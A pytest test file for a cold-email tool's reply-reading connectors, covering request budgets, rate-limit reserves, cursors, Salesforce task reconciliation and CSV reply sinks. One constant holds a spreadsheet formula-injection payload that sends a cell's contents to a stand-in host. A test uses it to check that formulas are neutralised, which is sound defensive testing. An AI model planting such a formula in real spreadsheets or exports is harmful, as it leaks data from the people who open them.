"""Reply reading within ColdSend's budget and activity sinks, on the real clients and sandboxes.

No Prefect here: the connectors alone, as a user's own code would call them. The budget test
counts requests (never wall time): COLDSEND_REPLY_BUDGET_LEADS (default 2,000) replied leads
are caught up in runs of at most 200 requests each, with no 429 and every reply logged once.
"""

from __future__ import annotations

import csv
import math
import os
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from connectors.activities import Activity, activity_key
from connectors.coldsend import ColdSendClient
from connectors.coldsend.replies import ReplyCursor, read_new_replies
from connectors.coldsend.upload import upload_leads
from connectors.csv_file.replies import CsvReplySink
from connectors.leads import Lead
from connectors.salesforce import SalesforceConnection
from connectors.salesforce.activities import SalesforceActivitySink
from sandbox.coldsend.fixtures import ColdSendControl
from sandbox.salesforce.fixtures import SalesforceSandbox

BUDGET_LEADS = int(os.environ.get("COLDSEND_REPLY_BUDGET_LEADS", "2000"))
FORMULA = '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")'


@pytest.fixture
def client(coldsend_sandbox: ColdSendControl) -> Iterator[ColdSendClient]:
    key = coldsend_sandbox.new_key(["leads:read", "leads:create", "campaigns:all"])
    with ColdSendClient(key, base_url=coldsend_sandbox.base_url) as c:
        yield c


def _campaign(client: ColdSendClient, emails: list[str], ids: list[str] | None = None) -> str:
    campaign_id = client.create_campaign(name="Replies under test").campaign_id
    leads = [Lead(e, source_id=(ids[i] if ids else f"row-{i}")) for i, e in enumerate(emails)]
    for result in upload_leads(client, campaign_id, leads, poll_initial=0.05, poll_max=0.2):
        assert result.success == len(leads)
    return campaign_id


def _reply_many(
    control: ColdSendControl, campaign_id: str, emails: list[str], start: datetime
) -> None:
    with httpx.Client(base_url=control.base_url.split("/api/")[0], timeout=30) as http:
        for i, email in enumerate(emails):
            at = (start + timedelta(seconds=i // 3)).isoformat()  # ties on purpose
            response = http.post(
                "/_sandbox/replies",
                json={
                    "campaign_id": campaign_id,
                    "email": email,
                    "body": f"r{i}",
                    "received_at": at,
                },
            )
            response.raise_for_status()


def test_cursor_text_round_trips_and_junk_means_read_everything() -> None:
    cursor = ReplyCursor(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "lead-1")
    assert ReplyCursor.loads(cursor.dumps()) == cursor
    for junk in (None, "", "nope", "2026-01-01|", "not a date|x", "2026-01-01T00:00:00|x", 42):
        assert ReplyCursor.loads(junk) is None


def test_first_catch_up_of_thousands_of_replies_spreads_over_runs_without_a_429(
    coldsend_sandbox: ColdSendControl, client: ColdSendClient, tmp_path: Path
) -> None:
    emails = [f"b{i}@example.com" for i in range(BUDGET_LEADS)]
    campaign_id = _campaign(client, emails)
    _reply_many(coldsend_sandbox, campaign_id, emails, datetime(2026, 5, 1, tzinfo=UTC))
    path = tmp_path / "leads.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Email", "Key"])
        writer.writerows([e, f"row-{i}"] for i, e in enumerate(emails))
    sink = CsvReplySink(path, match_by="Key", match_value="source_id")
    coldsend_sandbox.reset_stats()
    budget = 200
    pages = math.ceil(BUDGET_LEADS / 100)
    cursor: ReplyCursor | None = None
    runs, logged, per_run = 0, 0, []
    while True:
        runs += 1
        assert runs <= 100, "the catch-up does not finish"
        batch = read_new_replies(client, campaign_id, after=cursor, max_requests=budget)
        per_run.append(batch.requests)
        assert batch.requests <= budget
        result = sink.write_activities(batch.activities)
        assert result.balanced and not result.failures and not result.no_record
        logged += len(result.created)
        cursor = batch.cursor_after(result.done_keys)
        if batch.deferred == 0:
            break
        assert batch.stopped_by == "budget"
    stats = coldsend_sandbox.stats()
    assert stats.get("rate_limited", 0) == 0
    assert logged == BUDGET_LEADS
    # Every run lists the replied leads, then reads as many as the rest of its budget allows.
    assert runs == math.ceil(BUDGET_LEADS / (budget - pages))
    assert sum(per_run) == runs * pages + BUDGET_LEADS
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert all(row["Last reply"].startswith("r") for row in rows)
    # Caught up: a further run only lists.
    again = read_new_replies(client, campaign_id, after=cursor, max_requests=budget)
    assert (again.pending, again.requests) == (0, pages)
    print(
        f"\n{BUDGET_LEADS} replied leads: {runs} runs of <= {budget} requests, "
        f"{sum(per_run)} ColdSend requests in all = {sum(per_run) / BUDGET_LEADS:.3f} per "
        f"replied lead (first catch-up); {pages} per run once caught up"
    )


def test_reading_stops_at_the_hourly_reserve_instead_of_running_into_429(
    coldsend_sandbox: ColdSendControl, client: ColdSendClient
) -> None:
    emails = [f"h{i}@example.com" for i in range(30)]
    campaign_id = _campaign(client, emails)
    _reply_many(coldsend_sandbox, campaign_id, emails, datetime(2026, 5, 1, tzinfo=UTC))
    # The sandbox counts in clock-hour windows (as ColdSend documents): a read that crossed
    # the hour would start again at 0 and never reach the reserve. Start in a fresh hour
    # when this one is nearly over (the 31 requests take a few seconds, even on a busy box).
    if 3600 - time.time() % 3600 < 90:
        time.sleep(3600.5 - time.time() % 3600)
    coldsend_sandbox.set_limits(per_minute=1000, per_hour=40)
    try:
        coldsend_sandbox.reset_stats()
        batch = read_new_replies(
            client, campaign_id, max_requests=500, hourly_reserve=10, clock=_now
        )
    finally:
        coldsend_sandbox.set_limits(per_minute=100, per_hour=1000)
    assert batch.stopped_by == "hourly reserve"
    assert batch.deferred == 30 - len(batch.read) > 0
    assert coldsend_sandbox.stats().get("rate_limited", 0) == 0


def _now() -> float:
    return datetime.now(UTC).timestamp()


def test_a_new_reply_moves_its_lead_past_the_cursor_again(
    coldsend_sandbox: ColdSendControl, client: ColdSendClient
) -> None:
    emails = [f"n{i}@example.com" for i in range(5)]
    campaign_id = _campaign(client, emails)
    _reply_many(coldsend_sandbox, campaign_id, emails, datetime(2026, 5, 1, tzinfo=UTC))
    first = read_new_replies(client, campaign_id)
    cursor = first.cursor_after(a.key for a in first.activities)
    assert len(first.read) == 5 and cursor == first.read[-1].position
    coldsend_sandbox.add_reply(
        campaign_id, emails[0], "one more", received_at="2026-06-01T00:00:00Z"
    )
    second = read_new_replies(client, campaign_id, after=cursor)
    assert (second.replied, second.pending) == (5, 1)
    (lead,) = second.read
    assert lead.email == emails[0] and [a.text for a in lead.activities] == ["r0", "one more"]
    # A lead whose activities are not all done holds the cursor back (re-read next run).
    assert second.cursor_after([lead.activities[0].key]) == cursor


def _activity(who: str, n: int, text: str = "hi") -> Activity:
    return Activity(
        key=activity_key("reply", f"reply-{n}"),
        kind="reply",
        campaign_id="c",
        lead_id=f"l{n}",
        email=f"x{n}@example.com",
        source_id=who,
        subject="Re: hello",
        text=text,
        at=datetime(2026, 5, 1, 12, n, tzinfo=UTC),
    )


@pytest.fixture
def conn(salesforce_sandbox: SalesforceSandbox) -> SalesforceConnection:
    return SalesforceConnection(**salesforce_sandbox.connection_kwargs())


def test_a_lost_create_answer_is_reconciled_not_repeated(
    salesforce_sandbox: SalesforceSandbox, conn: SalesforceConnection
) -> None:
    ids = salesforce_sandbox.insert(
        [{"LastName": f"L{i}", "Email": f"x{i}@example.com"} for i in range(5)]
    )
    sink = SalesforceActivitySink(conn)
    # Every composite create is carried out, then its answer is lost.
    salesforce_sandbox.set_faults(
        drop_rate=1.0,
        drop_after_processing_share=1.0,
        methods=["POST"],
        path_prefix="/services/data",
    )
    try:
        salesforce_sandbox.reset_stats()
        result = sink.write_activities([_activity(rid, i) for i, rid in enumerate(ids)])
    finally:
        salesforce_sandbox.set_faults()
    assert result.balanced and len(result.created) == 5 and not result.failures
    assert len(salesforce_sandbox.records("Task")) == 5
    posts = [k for k in salesforce_sandbox.stats()["requests"] if k.startswith("POST")]
    assert sum(salesforce_sandbox.stats()["requests"][k] for k in posts) == 1


def test_a_refused_create_is_retried_once_after_reconciling(
    salesforce_sandbox: SalesforceSandbox, conn: SalesforceConnection
) -> None:
    (rid,) = salesforce_sandbox.insert([{"LastName": "L", "Email": "x0@example.com"}])
    sink = SalesforceActivitySink(conn)
    salesforce_sandbox.set_faults(
        error_rate=1.0, error_statuses=[503], methods=["POST"], path_prefix="/services/data"
    )
    try:
        refused = sink.write_activities([_activity(rid, 0)])
    finally:
        salesforce_sandbox.set_faults()
    assert len(refused.failures) == 1 and "503" in refused.failures[0].reason
    assert salesforce_sandbox.records("Task") == []
    again = sink.write_activities([_activity(rid, 0)])
    assert len(again.created) == 1 and len(salesforce_sandbox.records("Task")) == 1


def test_the_key_field_missing_on_task_is_a_clear_error(conn: SalesforceConnection) -> None:
    from connectors.leads import MappingError

    sink = SalesforceActivitySink(conn, key_field="Reply_Key__c")
    with pytest.raises(MappingError, match=r"Reply_Key__c.*Object Manager > Activity"):
        sink.write_activities([_activity("00Q000000000001AAA", 0)])


def test_csv_sink_neutralises_formulas_and_never_moves_back(tmp_path: Path) -> None:
    path = tmp_path / "l.csv"
    path.write_text("Email;Name\r\nx0@example.com;A\r\nx1@example.com;B\r\n", encoding="utf-8")
    sink = CsvReplySink(path)
    newer = replace(_activity("", 5, FORMULA), email="x0@example.com")
    older = replace(_activity("", 1, "older"), email="x0@example.com")
    nobody = sink.write_activities([_activity("", 7)])
    assert nobody.balanced and len(nobody.no_record) == 1  # x7 is not in the file
    result = sink.write_activities([newer, older])
    assert result.balanced and (len(result.created), len(result.skipped)) == (1, 1)
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[0] == "Email;Name;Last reply;Last reply at"  # delimiter kept
    assert "'" + FORMULA.replace('"', '""') in text
    assert "2026-05-01T12:05:00Z" in text
    before = path.stat().st_mtime_ns
    # The older reply alone is behind what the row shows: nothing written, file untouched.
    behind = sink.write_activities([older])
    assert len(behind.already_logged) == 1 and path.stat().st_mtime_ns == before


def test_a_sheet_without_key_column_leaves_other_stores_leads_alone(tmp_path: Path) -> None:
    path = tmp_path / "l.csv"
    path.write_text("Email\nx0@example.com\n", encoding="utf-8")
    from_salesforce = replace(_activity("00Q000000000001AAA", 3), email="sf@example.com")
    nowhere = replace(_activity("", 4), email="walk-in@example.com")
    result = CsvReplySink(path).write_activities([from_salesforce, nowhere])
    assert [a.key for a in result.skipped] == [from_salesforce.key]
    assert result.no_record == [nowhere]
    # With a key column the store's own rows carry ids: an unknown one is a missing record.
    keyed = CsvReplySink(path, store_ids=True).write_activities([from_salesforce])
    assert keyed.no_record == [from_salesforce]
